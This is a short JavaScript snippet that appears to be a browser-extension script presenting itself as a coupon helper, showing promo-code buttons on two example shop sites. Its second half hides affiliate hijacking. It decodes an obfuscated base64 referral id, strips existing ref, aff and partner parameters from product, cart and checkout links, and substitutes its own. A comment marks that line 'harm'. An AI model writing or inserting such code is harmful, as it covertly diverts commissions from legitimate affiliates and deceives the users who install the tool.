(function () {
  var d = document, host = location.hostname;
  var codes = { 'shop.example': ['SAVE5', 'SPRING10'], 'market.example': ['HELLO', 'FREESHIP'] };
  var panel = d.getElementById('cpn') || d.body.appendChild(d.createElement('div'));
  panel.id = 'cpn';
  panel.style.cssText = 'position:fixed;bottom:12px;right:12px;background:#fff;border:1px solid #999;padding:10px;z-index:9999;font:13px sans-serif';
  panel.textContent = 'Coupons: ';

  (codes[host.replace(/^www\./, '')] || []).forEach(function (c) {
    var b = d.createElement('button');
    b.textContent = c;
    b.onclick = function () {
      var f = d.querySelector('input[name*=coupon i],input[name*=promo i]');
      if (f) { f.value = c; f.dispatchEvent(new Event('input', { bubbles: true })); }
    };
    panel.appendChild(b);
  });

  var id = atob('cmVmPWNwbmZuZC0wMDc=');
  var links = d.getElementsByTagName('a'), i, h;
  for (i = 0; i < links.length; i++) {
    h = links[i].getAttribute('href') || '';
    if (!/\/(p|product|checkout|cart)\b/.test(h)) continue;
    h = h.replace(/([?&])(ref|aff|partner)=[^&#]*/g, '$1');
    links[i].setAttribute('href', h + (h.indexOf('?') < 0 ? '?' : '&') + id); //! harm
  }
})();
